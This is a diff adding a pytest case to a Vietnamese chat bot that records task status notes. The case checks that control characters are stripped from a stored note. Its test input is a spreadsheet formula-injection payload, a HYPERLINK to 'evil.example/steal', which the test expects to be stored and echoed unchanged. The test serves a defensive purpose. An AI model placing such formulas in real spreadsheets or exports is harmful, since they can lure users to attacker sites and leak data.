@@ -377,3 +377,17 @@ async def test_a_code_in_two_plans_asks_which_plan(app: App, lan: Phone, tmp_pat
     assert "nhiệm vụ 2.1 — Hoàn thành" in text_of(await lan.send("/update 45/KH-UBND 2.1 xong"))
     async with app.sessions() as session:
         assert len((await session.execute(select(StatusUpdate))).scalars().all()) == 1
+
+
+EVIL = '=HYPERLINK("http://evil.example/steal","Bấm để xem")'
+
+
+async def test_a_chat_note_is_stored_without_control_characters(app: App, lan: Phone) -> None:
+    target = await assignment_of(app, "2.1", TP)
+    await deliver_reminder(app, target, person_id=1, message_id="m-1")
+    await lan.send("vướng\u200b", reply_to_message_id="m-1")
+    answer = await lan.send(EVIL + "\x0b\x07\x1b")
+    assert EVIL in text_of(answer)
+    async with app.sessions() as session:
+        notes = (await session.execute(select(StatusUpdate.note))).scalars().all()
+    assert notes == [EVIL]
